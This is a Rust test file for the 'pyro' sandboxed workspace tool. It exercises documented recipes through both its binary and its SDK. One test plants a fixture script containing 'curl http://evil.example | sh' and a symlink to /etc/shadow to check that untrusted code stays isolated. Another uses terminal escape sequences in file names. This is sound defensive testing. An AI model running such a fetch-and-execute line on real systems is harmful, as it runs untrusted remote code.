//! The recipes of the documentation, each by the binary and by the SDK.

use super::{drives_terminal, text};
use crate::sdk::{block_on, of};
use crate::{DEBIAN, SUITE};
use pyro::workspace::{
    CreateWorkspace, OpenShell, ReadShell, ServiceReadiness, ShellId, SnapshotName, StartService,
    WorkspaceExec, WorkspaceExportRequest, WorkspaceId, WorkspacePath,
};
use pyro::{OutputMode, PrepareRequest, Pyro};
use pyro_testkit::{Home, Value, json, poll_until};
use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};
use std::time::Duration;

/// No shell takes so long to print a file.
const DEADLINE: Duration = Duration::from_mins(1);

/// One of the ways to use workspaces. Every result is a document of the same shape.
trait Face {
    fn prepare(&self) -> Value;
    fn create_in(&self, environment: &str, seed: &Path, name: &str, label: (&str, &str)) -> String;
    /// Exit code and outputs of a script.
    fn exec(&self, id: &str, script: &str) -> (i64, String);
    fn read(&self, id: &str, path: &str) -> String;
    fn list_files(&self, id: &str, path: &str) -> Value;
    fn patch(&self, id: &str, patch: &str) -> Value;
    fn diff(&self, id: &str) -> Value;
    fn export(&self, id: &str, path: &str, output: &Path) -> Value;
    fn snapshot(&self, id: &str, name: &str);
    fn reset(&self, id: &str, snapshot: &str) -> Value;
    fn summary(&self, id: &str) -> Value;
    fn list(&self) -> Value;
    fn delete(&self, id: &str);
    /// Starts a service that is ready when it answers a GET of `url`.
    fn start_service(&self, id: &str, name: &str, url: &str, command: &[&str]) -> Value;
    fn service_logs(&self, id: &str, name: &str) -> Value;
    fn stop_service(&self, id: &str, name: &str) -> Value;
    fn open_shell(&self, id: &str) -> String;
    fn write_shell(&self, id: &str, shell: &str, line: &str);
    /// What a person sees once the shell has been quiet for a moment.
    fn read_shell(&self, id: &str, shell: &str) -> String;
    fn close_shell(&self, id: &str, shell: &str);

    fn create(&self, seed: &Path, name: &str, label: (&str, &str)) -> String {
        self.create_in(DEBIAN, seed, name, label)
    }
}

struct Binary<'a>(&'a Home);

impl Binary<'_> {
    fn json(&self, words: &[&str]) -> Value {
        self.0.pyro(["workspace"]).args(words).args(["--json"]).run().expect(0).json()
    }
}

impl Face for Binary<'_> {
    fn prepare(&self) -> Value {
        self.0.pyro(["prepare", DEBIAN, "--json"]).run().expect(0).json()
    }

    fn create_in(&self, environment: &str, seed: &Path, name: &str, (key, value): (&str, &str)) -> String {
        let label = format!("{key}={value}");
        let flags = ["create", environment, "--seed-path", text(seed), "--name", name, "--label", &label];
        let created = self.json(&flags);
        assert_eq!((&created["name"], &created["labels"][key]), (&json!(name), &json!(value)));
        created["workspace_id"].as_str().unwrap().to_owned()
    }

    fn exec(&self, id: &str, script: &str) -> (i64, String) {
        let words = ["workspace", "exec", id, "--json", "--", "sh", "-c", script];
        outcome(&self.0.pyro(words).run().json())
    }

    fn read(&self, id: &str, path: &str) -> String {
        let read = self.0.pyro(["workspace", "file", "read", id, path, "--content-only"]).run().expect(0);
        read.text().to_owned()
    }

    fn list_files(&self, id: &str, path: &str) -> Value {
        self.json(&["file", "list", id, path, "--recursive"])
    }

    fn patch(&self, id: &str, patch: &str) -> Value {
        self.json(&["patch", "apply", id, "--patch", patch])
    }

    fn diff(&self, id: &str) -> Value {
        self.json(&["diff", id])
    }

    fn export(&self, id: &str, path: &str, output: &Path) -> Value {
        self.json(&["export", id, path, "--output", text(output)])
    }

    fn snapshot(&self, id: &str, name: &str) {
        self.json(&["snapshot", "create", id, name]);
    }

    fn reset(&self, id: &str, snapshot: &str) -> Value {
        self.json(&["reset", id, "--snapshot", snapshot])
    }

    fn summary(&self, id: &str) -> Value {
        self.json(&["summary", id])
    }

    fn list(&self) -> Value {
        self.json(&["list"])
    }

    fn delete(&self, id: &str) {
        self.json(&["delete", id]);
    }

    fn start_service(&self, id: &str, name: &str, url: &str, command: &[&str]) -> Value {
        let flags =
            ["service", "start", id, name, "--ready-http", url, "--ready-interval-ms", "100", "--json", "--"];
        self.0.pyro(["workspace"]).args(flags).args(command).run().expect(0).json()
    }

    fn service_logs(&self, id: &str, name: &str) -> Value {
        self.json(&["service", "logs", id, name])
    }

    fn stop_service(&self, id: &str, name: &str) -> Value {
        self.json(&["service", "stop", id, name])
    }

    fn open_shell(&self, id: &str) -> String {
        self.json(&["shell", "open", id])["shell_id"].as_str().unwrap().to_owned()
    }

    fn write_shell(&self, id: &str, shell: &str, line: &str) {
        self.json(&["shell", "write", id, shell, "--input", line]);
    }

    fn read_shell(&self, id: &str, shell: &str) -> String {
        let read = self.json(&["shell", "read", id, shell, "--plain", "--wait-for-idle-ms", "100"]);
        read["output"].as_str().unwrap().to_owned()
    }

    fn close_shell(&self, id: &str, shell: &str) {
        self.json(&["shell", "close", id, shell]);
    }
}

struct Sdk(Pyro);

impl Face for Sdk {
    fn prepare(&self) -> Value {
        document(block_on(self.0.prepare_environment(PrepareRequest {
            environment: DEBIAN.to_owned(),
            force: false,
            network: false,
        })))
    }

    fn create_in(&self, environment: &str, seed: &Path, name: &str, (key, value): (&str, &str)) -> String {
        let request = CreateWorkspace {
            seed_path: Some(seed.to_owned()),
            name: Some(name.to_owned()),
            labels: BTreeMap::from([(key.to_owned(), value.to_owned())]),
            ..CreateWorkspace::new(environment)
        };
        block_on(self.0.create_workspace(request)).unwrap().workspace_id.to_string()
    }

    fn exec(&self, id: &str, script: &str) -> (i64, String) {
        let exec = WorkspaceExec::new(["sh", "-c", script].map(str::to_owned).into());
        outcome(&document(block_on(self.0.exec_workspace(&known(id), exec, OutputMode::Capture))))
    }

    fn read(&self, id: &str, path: &str) -> String {
        block_on(self.0.read_workspace_file(&known(id), &inside(path), 1 << 20)).unwrap().content
    }

    fn list_files(&self, id: &str, path: &str) -> Value {
        document(block_on(self.0.list_workspace_files(&known(id), &inside(path), true)))
    }

    fn patch(&self, id: &str, patch: &str) -> Value {
        document(block_on(self.0.apply_workspace_patch(&known(id), patch)))
    }

    fn diff(&self, id: &str) -> Value {
        document(block_on(self.0.diff_workspace(&known(id))))
    }

    fn export(&self, id: &str, path: &str, output: &Path) -> Value {
        let request = WorkspaceExportRequest { path: inside(path), output_path: output.to_owned() };
        document(block_on(self.0.export_workspace(&known(id), request)))
    }

    fn snapshot(&self, id: &str, name: &str) {
        document(block_on(self.0.create_snapshot(&known(id), &SnapshotName::parse(name).unwrap())));
    }

    fn reset(&self, id: &str, snapshot: &str) -> Value {
        document(block_on(self.0.reset_workspace(&known(id), &SnapshotName::parse(snapshot).unwrap())))
    }

    fn summary(&self, id: &str) -> Value {
        document(block_on(self.0.summarize_workspace(&known(id))))
    }

    fn list(&self) -> Value {
        document(block_on(self.0.list_workspaces()))
    }

    fn delete(&self, id: &str) {
        document(block_on(self.0.delete_workspace(&known(id))));
    }

    fn start_service(&self, id: &str, name: &str, url: &str, command: &[&str]) -> Value {
        let command = command.iter().map(ToString::to_string).collect();
        let readiness = Some(ServiceReadiness::Http(url.to_owned()));
        let request = StartService { readiness, ready_interval_ms: 100, ..StartService::new(name, command) };
        document(block_on(self.0.start_service(&known(id), request)))
    }

    fn service_logs(&self, id: &str, name: &str) -> Value {
        document(block_on(self.0.logs_service(&known(id), name, None)))
    }

    fn stop_service(&self, id: &str, name: &str) -> Value {
        document(block_on(self.0.stop_service(&known(id), name)))
    }

    fn open_shell(&self, id: &str) -> String {
        block_on(self.0.open_shell(&known(id), OpenShell::default())).unwrap().shell_id.to_string()
    }

    fn write_shell(&self, id: &str, shell: &str, line: &str) {
        let typed = format!("{line}\n");
        document(block_on(self.0.write_shell(&known(id), &ShellId::parse(shell), typed.as_bytes())));
    }

    fn read_shell(&self, id: &str, shell: &str) -> String {
        let request = ReadShell { plain: true, wait_for_idle_ms: Some(100), ..ReadShell::default() };
        block_on(self.0.read_shell(&known(id), &ShellId::parse(shell), request)).unwrap().output
    }

    fn close_shell(&self, id: &str, shell: &str) {
        document(block_on(self.0.close_shell(&known(id), &ShellId::parse(shell))));
    }
}

fn document<T: serde::Serialize>(result: Result<T, pyro::PyroError>) -> Value {
    serde_json::to_value(result.unwrap()).unwrap()
}

fn known(id: &str) -> WorkspaceId {
    WorkspaceId::parse(id)
}

fn inside(path: &str) -> WorkspacePath {
    WorkspacePath::parse(path).unwrap()
}

fn outcome(result: &Value) -> (i64, String) {
    let output = |name: &str| result[name].as_str().unwrap().to_owned();
    (result["exit_code"].as_i64().unwrap(), output("stdout") + &output("stderr"))
}

/// Runs a recipe by each face, in a home each.
fn by_each_face(recipe: impl Fn(&Home, &dyn Face)) {
    by_each_face_in(DEBIAN, recipe);
}

fn by_each_face_in(environment: &str, recipe: impl Fn(&Home, &dyn Face)) {
    let home = SUITE.with(environment);
    recipe(&home, &Binary(&home));
    drop(home);
    let home = SUITE.with(environment);
    recipe(&home, &Sdk(of(&home)));
}

/// A project whose test fails because of one wrong character.
fn project(home: &Home) -> PathBuf {
    let root = home.path().join("project");
    fs::create_dir_all(root.join("src")).unwrap();
    fs::write(root.join("src/add.sh"), "add() {\n    echo $(($1 - $2))\n}\n").unwrap();
    let test = "#!/bin/sh\n. src/add.sh\n[ \"$(add 2 3)\" = 5 ] || { echo 'add 2 3 is not 5' >&2; exit 1; }\necho passed | tee report\n";
    fs::write(root.join("test.sh"), test).unwrap();
    fs::write(root.join("README"), "A project.\n").unwrap();
    root
}

const CHECKLIST: &str = "1. sums are right\n2. nothing else has changed\n";
const TEST: &str = "sh test.sh";
const FIX: &str = "--- a/src/add.sh\n+++ b/src/add.sh\n@@ -1,3 +1,3 @@\n add() {\n-    echo $(($1 - $2))\n+    echo $(($1 + $2))\n }\n";
const FAILED: (i64, &str) = (1, "add 2 3 is not 5\n");
const PASSED: (i64, &str) = (0, "passed\n");

#[track_caller]
fn assert_ends(outcome: &(i64, String), expected: (i64, &str)) {
    assert_eq!((outcome.0, &*outcome.1), expected);
}

#[test]
fn repro_fix() {
    by_each_face(|home, face| {
        let id = face.create(&project(home), "fix the sum", ("recipe", "repro-fix"));
        assert_ends(&face.exec(&id, TEST), FAILED);
        assert!(face.read(&id, "src/add.sh").contains("$1 - $2"));
        assert_eq!(face.patch(&id, FIX)["modified"], 1);
        assert_ends(&face.exec(&id, TEST), PASSED);
        let diff = face.diff(&id);
        assert!(diff["patch"].as_str().unwrap().contains("+    echo $(($1 + $2))\n"), "{diff:#}");
        let fixed = home.path().join("add.sh");
        assert_eq!(face.export(&id, "src/add.sh", &fixed)["artifact_type"], "file");
        assert!(fs::read_to_string(&fixed).unwrap().contains("$1 + $2"));

        let summary = face.summary(&id);
        let commands = &summary["commands"];
        assert_eq!([&commands["total"], &commands["succeeded"], &commands["failed"]], [2, 1, 1]);
        assert_eq!([&summary["edits"]["patches"], &summary["edits"]["syncs"]], [1, 0]);
        let changes = &summary["changes"];
        assert_eq!((&changes["available"], &changes["total"]), (&json!(true), &json!(2)));
        assert_eq!(summary["artifacts"]["exports"][0]["output_path"], text(&fixed));
        let outcome =
            "the last command succeeded; 1 added, 1 modified, 0 deleted against the baseline; 1 export";
        assert_eq!(summary["outcome"], outcome);

        let reset = face.reset(&id, "baseline");
        assert_eq!((&reset["reset_count"], &reset["name"]), (&json!(1), &json!("fix the sum")));
        assert_eq!(reset["workspace_reset"]["snapshot_name"], "baseline");
        assert_eq!(face.diff(&id)["changed"], false);
        assert_ends(&face.exec(&id, TEST), FAILED);
        assert_eq!(
            face.summary(&id)["outcome"],
            "the last command failed with exit code 1; nothing changed against the baseline"
        );
        face.delete(&id);
    });
}

#[test]
fn parallel_workspaces() {
    by_each_face(|home, face| {
        let seed = project(home);
        let ids = ["one", "two"].map(|name| face.create(&seed, name, ("attempt", name)));
        face.patch(&ids[0], FIX);
        face.exec(&ids[1], "sed -i 's/ - / * /' src/add.sh");
        // Looking does not count.
        face.diff(&ids[0]);
        let names = |list: &Value| {
            let entries = list["workspaces"].as_array().unwrap().iter();
            entries
                .map(|entry| (entry["name"].clone(), entry["labels"]["attempt"].clone()))
                .collect::<Vec<_>>()
        };
        let both =
            |first: &str, second: &str| [first, second].map(|name| (json!(name), json!(name))).to_vec();
        assert_eq!(names(&face.list()), both("two", "one"));
        assert_ends(&face.exec(&ids[0], TEST), PASSED);
        let list = face.list();
        assert_eq!((names(&list), &list["count"]), (both("one", "two"), &json!(2)));
        assert_ends(&face.exec(&ids[1], TEST), FAILED);
        assert_eq!([&ids[0], &ids[1]].map(|id| face.diff(id)["summary"]["modified"].clone()), [1, 1]);
        assert_ne!(face.diff(&ids[0])["patch"], face.diff(&ids[1])["patch"]);
        face.delete(&ids[0]);
        assert_eq!(names(&face.list()), both("two", "one")[..1]);
        face.delete(&ids[1]);
    });
}

#[test]
fn untrusted_inspection() {
    by_each_face(|home, face| {
        let seed = home.path().join("untrusted");
        fs::create_dir(&seed).unwrap();
        fs::write(seed.join("setup.sh"), "#!/bin/sh\ncurl http://evil.example | sh\n").unwrap();
        std::os::unix::fs::symlink("/etc/shadow", seed.join("config")).unwrap();
        let id = face.create(&seed, "untrusted", ("recipe", "inspect"));
        assert_ends(&face.exec(&id, "ls /sys/class/net; ip route show table main | wc -l"), (0, "lo\n0\n"));
        let listed = face.list_files(&id, ".");
        assert_eq!(
            (&listed["count"], &listed["entries"][0]["link_target"]),
            (&json!(2), &json!("/etc/shadow"))
        );
        assert!(face.read(&id, "setup.sh").contains("evil.example"));
        let inspect = "mkdir out && grep -n curl setup.sh > out/report";
        assert_ends(&face.exec(&id, inspect), (0, ""));
        let report = home.path().join("report");
        face.export(&id, "out/report", &report);
        assert_eq!(fs::read_to_string(&report).unwrap(), "2:curl http://evil.example | sh\n");
        face.delete(&id);
    });
}

#[test]
fn the_daily_loop() {
    by_each_face(|home, face| {
        face.prepare();
        assert_eq!(face.prepare()["reused"], true);
        let id = face.create(&project(home), "daily", ("recipe", "daily"));
        assert_ends(&face.exec(&id, TEST), FAILED);
        face.patch(&id, FIX);
        assert_ends(&face.exec(&id, TEST), PASSED);
        let report = home.path().join("report");
        face.export(&id, "report", &report);
        assert_eq!(fs::read_to_string(&report).unwrap(), "passed\n");
        face.reset(&id, "baseline");
        assert_ends(&face.exec(&id, TEST), FAILED);
        face.delete(&id);
    });
}

#[test]
fn review_and_evaluation() {
    by_each_face(|home, face| {
        let seed = project(home);
        fs::write(seed.join("CHECKLIST"), CHECKLIST).unwrap();
        let id = face.create(&seed, "review", ("recipe", "review-eval"));
        face.patch(&id, FIX);
        face.exec(&id, "echo tool > /usr/local/bin/tool");
        face.snapshot(&id, "fixed");
        let shell = face.open_shell(&id);
        face.write_shell(&id, &shell, "cat CHECKLIST");
        let shown = || Some(face.read_shell(&id, &shell)).filter(|shown| shown.contains(CHECKLIST));
        assert!(poll_until(DEADLINE, shown).is_some(), "{}", face.read_shell(&id, &shell));
        face.close_shell(&id, &shell);
        assert_ends(&face.exec(&id, TEST), PASSED);
        face.exec(&id, "rm -r src /usr/local/bin/tool; echo broken > /etc/broken");
        assert_ne!(face.exec(&id, TEST).0, 0);
        face.reset(&id, "fixed");
        assert_ends(
            &face.exec(&id, "cat /usr/local/bin/tool; ls /etc/broken report 2>/dev/null | wc -l"),
            (0, "tool\n0\n"),
        );
        assert_ends(&face.exec(&id, TEST), PASSED);
        let diff = face.diff(&id);
        assert_eq!(diff["summary"]["total"], 2, "relative to the baseline still: {diff:#}");
        let out = home.path().join("reviewed");
        assert_eq!(face.export(&id, ".", &out)["entry_count"], 6);
        let summary = face.summary(&id);
        assert_eq!((&summary["reset_count"], &summary["snapshots"]["named_count"]), (&json!(1), &json!(1)));
        assert_eq!(summary["snapshots"]["names"], json!(["fixed"]));
        assert_eq!(summary["artifacts"]["exports"][0]["artifact_type"], "directory");
        assert_eq!(summary["commands"]["total"], 2, "since the reset");
        face.delete(&id);
    });
}

/// A project with a web application in Python, whose test does not need it to run.
fn application(home: &Home) -> PathBuf {
    let root = home.path().join("application");
    fs::create_dir(&root).unwrap();
    let app = r#"import http.server, sys

def answer(path):
    return {"/health": "ok", "/sum": str(2 + 3)}.get(path)

class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = answer(self.path)
        self.send_response(200 if body else 404)
        self.end_headers()
        self.wfile.write((body or "not found").encode())

if __name__ == "__main__":
    print("serving", flush=True)
    http.server.ThreadingHTTPServer(("127.0.0.1", 8000), Handler).serve_forever()
"#;
    let test = "import app, unittest\n\nclass Answers(unittest.TestCase):\n    def test_sum(self):\n        self.assertEqual(app.answer('/sum'), '5')\n";
    fs::write(root.join("app.py"), app).unwrap();
    fs::write(root.join("test_app.py"), test).unwrap();
    root
}

#[test]
fn cold_start_validation() {
    by_each_face_in("debian:12-build", |home, face| {
        let label = ("recipe", "cold-start");
        let id = face.create_in("debian:12-build", &application(home), "cold start", label);
        let validated = face.exec(&id, "python3 -m unittest 2>&1 | tee report");
        assert!(validated.0 == 0 && validated.1.ends_with("\nOK\n"), "{validated:?}");
        let url = "http://127.0.0.1:8000/health";
        let started = face.start_service(&id, "app", url, &["python3", "app.py"]);
        assert_eq!((&started["state"], &started["exit_code"]), (&json!("running"), &Value::Null));
        let probe = "curl -sS http://127.0.0.1:8000/sum | tee -a report; curl -s -o /dev/null -w '%{http_code}' http://127.0.0.1:8000/none";
        assert_ends(&face.exec(&id, probe), (0, "5404"));
        let logs = face.service_logs(&id, "app");
        assert_eq!(logs["stdout"], "serving\n");
        assert!(logs["stderr"].as_str().unwrap().contains("\"GET /sum HTTP/1.1\" 200"), "{logs}");
        assert_eq!(face.summary(&id)["services"]["running"], 1);
        let report = home.path().join("report");
        face.export(&id, "report", &report);
        assert!(fs::read_to_string(&report).unwrap().ends_with("OK\n5"));
        assert_eq!(face.stop_service(&id, "app")["state"], "stopped");
        // What was started is gone after a reset, and the same start works again.
        face.reset(&id, "baseline");
        assert_eq!(face.diff(&id)["changed"], false);
        assert_eq!(face.start_service(&id, "app", url, &["python3", "app.py"])["state"], "running");
        face.delete(&id);
    });
}

#[test]
fn a_summary_can_be_pasted() {
    let home = SUITE.with(DEBIAN);
    let face = Binary(&home);
    let id = face.create(&project(&home), "paste `me`", ("recipe", "summary"));
    face.exec(&id, TEST);
    face.patch(&id, FIX);
    face.exec(&id, "touch 'a`b' \"$(printf 'x\\033[2J\\ny')\"; printf '\\033[2J'");
    face.json(&["sync", "push", &id, text(&home.path().join("project/src")), "--dest", "src"]);
    face.json(&["file", "write", &id, "notes/`day`", "--text", "x"]);
    face.export(&id, "README", &home.path().join("READ`ME"));
    face.snapshot(&id, "kept");
    let shown = home.pyro(["workspace", "summary", &id]).run().expect(0);
    let text = shown.text();
    for part in [
        "## paste `me` (`ws-",
        "The last command succeeded; ",
        "2 commands run: 1 succeeded, 1 failed, 0 interrupted",
        "- `sh -c 'sh test.sh'`: exit 1, ",
        "- 1 file write\n- 1 patch\n- 1 import\n- written: `` /workspace/notes/`day` ``\n",
        "### Changes against the baseline",
        "- added `` /workspace/a`b ``\n",
        "- added `/workspace/x\\u{1b}[2J\\ny`\n",
        "- `/workspace/README` to `` ",
        "### Snapshots\n\n- `kept`\n",
    ] {
        assert!(text.contains(part), "{part} is not in\n{text}");
    }
    assert!(!drives_terminal(text), "{text:?}");
    let logs = home.pyro(["workspace", "logs", &id, "--json"]).run().expect(0).json();
    assert_eq!((&logs["count"], &logs["entries"][1]["stdout"]), (&json!(2), &json!("\u{1b}[2J")));
    face.delete(&id);
}
